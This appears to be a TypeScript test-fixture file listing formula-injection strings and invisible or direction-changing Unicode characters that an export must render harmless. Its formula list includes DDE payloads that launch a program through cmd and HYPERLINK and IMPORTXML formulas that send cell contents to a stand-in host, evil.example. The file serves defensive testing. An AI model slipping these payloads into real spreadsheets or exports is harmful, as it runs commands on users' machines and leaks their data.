/** Texts that a manifest may hold, and that must be harmless wherever they are shown. */

const SPACES = ['', ' ', '  ', '\u00a0', '\u3000', '\u2003'];
const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/** What a spreadsheet would run. */
export const FORMULAS: readonly string[] = [
  ...SPACES.flatMap((space) => OPERATORS.map((operator) => `${space}${operator}1+1`)),
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?x=",A1),"//a")',
  '=1+1",=2+2',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "-2+3+cmd|'/C calc'!A0",
  '+HYPERLINK("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
  'a;=1+1',
  'a; =1+1;b',
  'a;"=1+1;b',
  ";@SUM(1+1)*cmd|'/C calc'!A0",
  'a;\u00a0＝1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u2066=1+1',
  '=',
  '-',
];

/** What would turn the reading order, vanish, or end a line for some reader. */
export const INVISIBLE: readonly string[] = [
  'right\u202eleft',
  'isolate\u2066d\u2069',
  'zero\u200bwidth',
  'joined\u200d\u200c',
  'line\u2028separator',
  'paragraph\u2029separator',
  'soft\u00adhyphen',
  'tag\u{e0041}\u{e007f}',
  'variation\ufe0f',
  'annotation\ufff9x\ufffb',
  'mongolian\u180e',
];
